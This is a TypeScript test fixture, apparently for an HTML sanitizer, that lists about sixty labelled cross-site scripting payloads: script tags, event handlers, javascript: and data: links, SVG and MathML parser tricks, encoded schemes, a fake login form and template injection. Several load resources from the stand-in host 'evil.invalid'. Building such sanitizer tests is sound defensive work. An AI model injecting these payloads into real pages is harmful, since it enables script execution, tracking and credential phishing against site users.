/** The origin from which a hostile text would load something. No server exists there. */
export const foreign = 'evil.invalid';

const act = 'window.ran=1;alert(1)';

/** What an attacker with access to a platform might write into a notice, by what it attempts. */
export const hostileHtml: [string, string][] = [
  ['script', `<script>${act}</script>`],
  ['foreign script', `<script src="https://${foreign}/x.js"></script>`],
  ['broken script', `<scr<script>ipt>${act}</scr</script>ipt>`],
  ['image with onerror', `<img src=x onerror="${act}">`],
  ['image from elsewhere, plain', `<img src="http://${foreign}/track.gif">`],
  ['image without quotes', `<img src=x:x onerror=${act}//`],
  ['svg with onload', `<svg onload="${act}"><animate onbegin="${act}" attributeName="x" dur="1s"></svg>`],
  ['svg script', `<svg><script>${act}</script></svg>`],
  [
    'svg foreign object',
    `<svg><foreignObject><iframe src="https://${foreign}/"></iframe></foreignObject></svg>`,
  ],
  [
    'svg use',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${act}</script></svg>#x"/></svg>`,
  ],
  [
    'math',
    `<math><mtext><table><mglyph><style><img src=x onerror="${act}"></style></mglyph></table></mtext></math>`,
  ],
  ['javascript link', `<a href="javascript:${act}">link</a>`],
  ['javascript link, hidden', `<a href=" jav&#x09;ascript:${act}">link</a>`],
  ['data link', `<a href="data:text/html,<script>${act}</script>">link</a>`],
  ['vbscript link', `<a href="vbscript:${act}">link</a>`],
  [
    'frame',
    `<iframe srcdoc="<script>parent.${act}</script>"></iframe><iframe src="javascript:${act}"></iframe>`,
  ],
  [
    'object and embed',
    `<object data="https://${foreign}/x.swf"></object><embed src="https://${foreign}/x.swf">`,
  ],
  ['style sheet', `<style>@import url(https://${foreign}/x.css); body { display: none }</style>`],
  [
    'foreign sheet',
    `<link rel="stylesheet" href="https://${foreign}/x.css"><base href="https://${foreign}/">`,
  ],
  [
    'style attribute',
    `<p style="position:fixed;inset:0;background:url(https://${foreign}/x.gif)">over all</p>`,
  ],
  ['refresh', `<meta http-equiv="refresh" content="0;url=https://${foreign}/">`],
  [
    'form',
    `<form action="https://${foreign}/"><input name="password" autofocus onfocus="${act}"><button>Log in</button></form>`,
  ],
  ['details', `<details open ontoggle="${act}"><summary>more</summary></details>`],
  [
    'media',
    `<video src="https://${foreign}/x.mp4" onerror="${act}"></video><audio src=x onerror="${act}"></audio>`,
  ],
  [
    'template and comment',
    `<template><img src=x onerror="${act}"></template><!--><img src=x onerror="${act}">-->`,
  ],
  [
    'end of the page',
    `</script></style></template></article></div><script>${act}</script><img src=x onerror="${act}">`,
  ],
  [
    'ids of the page',
    `<p id="document">{}</p><div id="portal"></div><a name="location" href="https://${foreign}/">x</a>`,
  ],
  // The rest relies on how browsers repair broken markup, and on rarely used elements.
  ['script in capitals', `<SCRIPT>${act}</SCRIPT><ScRiPt SRC=//${foreign}/x.js></ScRiPt>`],
  ['script with a slash', `<script/x>${act}</script/x><script\n>${act}</script\n>`],
  ['module script', `<script type="module">${act}</script><script type="importmap">{"imports":{}}</script>`],
  ['handler after a slash', `<img/src=x/onerror=${act}><svg/onload=${act}>`],
  ['handler in a broken tag', `<img """><script>${act}</script>"><<p onclick="${act}">x</p>`],
  ['handlers for hover and focus', `<p onmouseover="${act}" onfocus="${act}" tabindex="0">point here</p>`],
  [
    'handler of an animation',
    `<style>@keyframes x{}</style><p style="animation:x" onanimationstart="${act}">x</p>`,
  ],
  ['handler on body', `<body onload="${act}" onpageshow="${act}"><html onclick="${act}">`],
  [
    'picture with sources',
    `<picture><source srcset="https://${foreign}/a.webp"><img src="http://${foreign}/b.gif"></picture>`,
  ],
  ['image set', `<img src="/x.png" srcset="https://${foreign}/a.png 2x" sizes="100vw" loading="eager">`],
  ['image from another protocol', `<img src="//${foreign}/x.gif"><img src="ftp://${foreign}/x.gif">`],
  [
    'image as data',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${act}'/>">`,
  ],
  [
    'background attributes',
    `<table background="http://${foreign}/t.gif"><tr><td background="http://${foreign}/d.gif">x</td></tr></table>`,
  ],
  [
    'link with entities',
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${act}">link</a>`,
  ],
  [
    'link with a line break',
    `<a href="java\nscript:${act}">link</a><a href="java&NewLine;script&colon;${act}">link</a>`,
  ],
  [
    'link with a null character',
    `<a href="\u0000javascript:${act}">link</a><a href="\u0001javascript:${act}">link</a>`,
  ],
  [
    'link as view-source and blob',
    `<a href="view-source:https://${foreign}/">a</a><a href="blob:https://${foreign}/1">b</a>`,
  ],
  ['link that pings', `<a href="/help" ping="https://${foreign}/ping" download="x.html">link</a>`],
  ['link with a target name', `<a href="https://${foreign}/" target="_top" onclick="${act}">link</a>`],
  ['xlink', `<svg><a xlink:href="javascript:${act}"><text y="20">link</text></a></svg>`],
  [
    'math link',
    `<math href="javascript:${act}">link</math><math><maction actiontype="statusline#https://${foreign}" xlink:href="javascript:${act}">x</maction></math>`,
  ],
  [
    'svg set',
    `<svg><set attributeName="onmouseover" to="${act}"/><image href="https://${foreign}/x.png" onerror="${act}"/></svg>`,
  ],
  ['svg style', `<svg><style><img/src=x onerror=${act}></style></svg>`],
  [
    'title and textarea',
    `<title><img src=x onerror="${act}"></title><textarea><img src=x onerror="${act}"></textarea>`,
  ],
  ['noscript', `<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>`],
  [
    'xmp and listing',
    `<xmp><img src=x onerror="${act}"></xmp><listing><script>${act}</script></listing><plaintext>`,
  ],
  [
    'select and option',
    `<select onfocus="${act}" autofocus><option><style></select><img src=x onerror="${act}"></style></select>`,
  ],
  ['marquee', `<marquee onstart="${act}" loop="1">x</marquee><blink>x</blink>`],
  [
    'dialog and popover',
    `<dialog open onclose="${act}">x</dialog><button popovertarget="portal" onclick="${act}">x</button>`,
  ],
  ['custom element', `<x-portal onclick="${act}" is="x">x</x-portal><slot onslotchange="${act}"></slot>`],
  [
    'shadow root',
    `<div><template shadowrootmode="open"><script>${act}</script><img src=x onerror="${act}"></template></div>`,
  ],
  [
    'comment tricks',
    `<!-- --!><img src=x onerror="${act}"> --><![CDATA[<img src=x onerror="${act}">]]><?xml <img src=x onerror="${act}">?>`,
  ],
  ['deep nesting', `${'<div>'.repeat(60)}<img src=x onerror="${act}">${'</div>'.repeat(60)}`],
  ['template of the portal', `{{constructor.constructor("${act}")()}} $t(page.home.title) \${${'alert(1)'}}`],
];
